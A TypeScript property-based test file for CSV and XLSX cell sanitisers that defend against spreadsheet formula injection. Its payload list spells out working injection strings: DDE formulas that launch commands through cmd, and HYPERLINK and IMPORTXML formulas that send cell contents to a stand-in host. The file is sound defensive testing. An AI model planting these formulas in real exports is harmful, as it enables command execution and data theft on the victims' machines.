import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import {
  decodeOoxmlEscapes,
  FORMULA_TRIGGERS,
  fromCsvCell,
  fromXlsxCell,
  startsDangerously,
  toCsvCell,
  toXlsxCell,
} from './cell.rules'
import { parseCsv } from './csv.rules'

const RUNS = { numRuns: 1000, seed: 42 }

/** Strings that often start with a trigger, an apostrophe or an OOXML-looking escape. */
const hostile = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc
    .tuple(fc.constantFrom(...FORMULA_TRIGGERS, "'", '"', '_x0041_', '\uD800'), fc.string({ unit: 'grapheme' }))
    .map(([a, b]) => a + b),
)

/** OWASP's and others' published formula-injection payloads. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"Klicka")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  "'=1+1",
  '=IMPORTXML(CONCAT("http://x/?", A1), "//a")',
  'DDE ("cmd";"/C calc";"!A0")A0',
]

/** The content of the one field a CSV cell parses to. */
function csvContent(cell: string): string {
  const parsed = parseCsv(cell, ',')
  if (!parsed.ok) throw new Error('unparseable')
  return parsed.rows[0]?.[0] ?? ''
}

describe('toCsvCell', () => {
  it('neutralises the known payloads and quotes every field', () => {
    for (const p of PAYLOADS) {
      const cell = toCsvCell(p)
      expect(cell.startsWith('"') && cell.endsWith('"')).toBe(true)
      expect(startsDangerously(csvContent(cell)), p).toBe(false)
      expect(fromCsvCell(csvContent(cell))).toBe(p)
    }
    expect(toCsvCell('=1+1')).toBe(`"'=1+1"`)
    expect(toCsvCell('Säg "hej"')).toBe('"Säg ""hej"""')
    expect(toCsvCell('-5')).toBe(`"'-5"`)
  })

  it('never yields a field that starts a formula, and reads back to the text (property)', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const content = csvContent(toCsvCell(text))
        expect(startsDangerously(content)).toBe(false)
        expect(fromCsvCell(content)).toBe(text)
      }),
      RUNS,
    )
  })

  it('keeps a row of hostile fields apart whatever separators and newlines they hold (property)', () => {
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 6 }), fc.constantFrom(',', ';'), (cells, sep) => {
        const parsed = parseCsv(cells.map(toCsvCell).join(sep), sep)
        expect(parsed.ok && parsed.rows[0]?.map(fromCsvCell)).toEqual(cells)
      }),
      RUNS,
    )
  })
})

describe('toXlsxCell', () => {
  it('neutralises the known payloads', () => {
    for (const p of PAYLOADS) {
      expect(startsDangerously(toXlsxCell(p)), p).toBe(false)
      expect(fromXlsxCell(decodeOoxmlEscapes(toXlsxCell(p)))).toBe(p)
    }
  })

  it('escapes what XML cannot carry and literal _xHHHH_ sequences', () => {
    expect(toXlsxCell('a\u0001b')).toBe('a_x0001_b')
    expect(toXlsxCell('_x0041_')).toBe('_x005F_x0041_')
    expect(toXlsxCell('rad 1\r\nrad 2')).toBe('rad 1_x000D_\nrad 2')
    expect(toXlsxCell('\uD83D\uDE00')).toBe('\uD83D\uDE00')
    expect(toXlsxCell('\uD83D')).toBe('_xD83D_')
  })

  it('never yields a value that starts a formula or holds a character XML cannot carry, and reads back (property)', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const cell = toXlsxCell(text)
        expect(startsDangerously(cell)).toBe(false)

        expect(cell).not.toMatch(/[\u0000-\u0008\u000B-\u001F\u007F\uFFFE\uFFFF]/)
        expect(fromXlsxCell(decodeOoxmlEscapes(cell))).toBe(text)
      }),
      RUNS,
    )
  })
})
